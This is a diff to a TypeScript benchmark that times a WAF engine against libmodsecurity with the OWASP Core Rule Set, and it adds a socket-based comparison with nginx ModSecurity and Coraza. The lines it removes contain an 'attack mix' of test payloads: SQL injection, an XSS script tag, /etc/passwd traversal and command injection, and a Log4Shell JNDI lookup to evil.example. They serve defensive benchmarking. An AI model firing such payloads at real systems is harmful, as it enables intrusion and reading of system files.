@@ -1,9 +1,10 @@
 /**
- * How much processor time does a request cost in the WAF, with OWASP CRS at paranoia level 1? Our engine and
- * libmodsecurity 3 (its Python bindings, the same rules) take turns on the same requests; least of the rounds, as what
- * else the machine does only adds. Also: time to load, memory. Ends with one line of JSON with the ratios.
+ * How much processor time does a request cost in the WAF, with OWASP CRS at paranoia level 1? Twice over:
+ * in process, our engine and libmodsecurity 3 (its Python bindings, the same rules) taking turns, least of the rounds, as
+ * what else the machine does only adds; and behind a socket, beside nginx with ModSecurity and Coraza, each less the same
+ * server without WAF, medians. Also: time to load, memory. Ends with one line of JSON with the ratios.
  *
- * Run: node node.js bench/waf.ts [--rounds 5] [--ms 300]
+ * Run: node node.js bench/waf.ts [--rounds 5] [--ms 300] [--seconds 2] (of each round behind a socket; 0: none)
  */
 import { cpus } from 'node:os'
 import { fileURLToPath } from 'node:url'
@@ -19,9 +20,15 @@ import {
   type Oracle,
   type Question,
 } from '#test/conformance/modsecurity/oracle'
+import { wafCases } from './rig/waf-cases.ts'
+import { measureWafServers, wafServerTable } from './rig/waf-servers.ts'
 
 const { values } = parseArgs({
-  options: { rounds: { type: 'string', default: '5' }, ms: { type: 'string', default: '300' } },
+  options: {
+    rounds: { type: 'string', default: '5' },
+    ms: { type: 'string', default: '300' },
+    seconds: { type: 'string', default: '2' },
+  },
 })
 const rounds = Number(values.rounds)
 const roundMs = Number(values.ms)
@@ -30,74 +37,6 @@ const folder = crsFolder()
 if (folder === undefined) {
   console.error(noCrs)
   process.exit(1)
-}
-
-const common = [
-  'Host',
-  'shop.example',
-  'User-Agent',
-  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
-  'Accept',
-  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-  'Accept-Language',
-  'en-GB,en;q=0.7,de;q=0.3',
-  'Accept-Encoding',
-  'gzip, deflate, br',
-  'Cookie',
-  'session=7f3a9c1e5b2d4f60; theme=dark; consent=1',
-]
-const withBody = (type: string, body: string): Question => ({
-  method: 'POST',
-  target: '/api/orders',
-  headers: [...common, 'Content-Type', type, 'Content-Length', String(body.length)],
-  body,
-})
-const words =
-  'please deliver the parcel behind the green door when nobody is at home and call before noon'.split(
-    ' ',
-  )
-const sentence = (seed: number, count: number) =>
-  Array.from({ length: count }, (_, i) => words[(seed * 7 + i * 3) % words.length]).join(' ')
-const formOf = (seed: number) =>
-  Array.from({ length: 16 }, (_, i) => `field${i}=${encodeURIComponent(sentence(seed + i, 8))}`)
-    .join('&')
-    .slice(0, 1024)
-const jsonOf = (seed: number) => {
-  const items: object[] = []
-  while (JSON.stringify(items).length < 10_100)
-    items.push({
-      id: seed * 1000 + items.length,
-      name: sentence(seed + items.length, 4),
-      price: 12.5 + items.length,
-      tags: ['new', 'sale', `t${items.length}`],
-      note: sentence(items.length, 10),
-    })
-  return JSON.stringify({ items })
-}
-const get = (target: string): Question => ({ method: 'GET', target, headers: common })
-
-/** Variants, so that not everything is remembered from the request before: 50 of each kind. */
-const variants = (make: (i: number) => Question) => Array.from({ length: 50 }, (_, i) => make(i))
-const cases: Record<string, readonly Question[]> = {
-  'benign GET': variants((i) =>
-    get(`/shop/items?id=${1000 + i}&sort=price&q=${words[i % words.length]}+shoes`),
-  ),
-  'benign GET, every value new': variants((i) =>
-    get(`/shop/items?id=NEW${i}&sort=NEWx${i}&q=blue+NEW`),
-  ),
-  'benign 1 KiB form': variants((i) => withBody('application/x-www-form-urlencoded', formOf(i))),
-  'benign 10 KiB JSON': variants((i) => withBody('application/json', jsonOf(i))),
-  'attack mix': [
-    get("/?id=1'%20OR%20'1'='1"),
-    get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
-    get('/?file=../../../../etc/passwd'),
-    get('/?cmd=;cat+/etc/passwd'),
-    withBody('application/x-www-form-urlencoded', 'a=1+UNION+SELECT+password+FROM+users--&b=x'),
-    withBody(
-      'application/json',
-      JSON.stringify({ name: '${jndi:ldap://evil.example/a}', x: [1, 2, 3] }),
-    ),
-  ],
 }
 
 const { setup, rules } = findCrs(folder)
@@ -166,7 +105,7 @@ const oracle: Oracle | undefined =
 if (missing !== undefined) console.log(missing)
 
 const results: Record<string, { us: number; theirsUs: number | undefined }> = {}
-for (const [name, requests] of Object.entries(cases)) {
+for (const [name, requests] of Object.entries(wafCases)) {
   await oursUs(requests)
   let us = Infinity
   let theirsUs = Infinity
@@ -196,9 +135,18 @@ console.log(
   `load: ${loadMs.toFixed(0)} ms here${oracle ? `, ${oracle.loadMs.toFixed(0)} ms libmodsecurity` : ''}; ` +
     `memory: ${memoryMb.toFixed(0)} MB here${oracle ? `, ${(oracle.rssBytes / 1e6).toFixed(0)} MB the whole libmodsecurity process` : ''}`,
 )
+oracle?.close()
+
+const seconds = Number(values.seconds)
+const servers = seconds > 0 ? await measureWafServers({ folder, rounds, seconds }) : undefined
+if (servers) {
+  console.log('Behind a socket, µs of CPU a request, less the same server without WAF:')
+  console.table(wafServerTable(servers))
+}
 console.log(
   JSON.stringify({
     bench: 'waf',
+    servers: servers ?? null,
     loadMs: Math.round(loadMs),
     memoryMb: Math.round(memoryMb),
     cases: Object.fromEntries(
@@ -212,4 +160,3 @@ console.log(
     ),
   }),
 )
-oracle?.close()
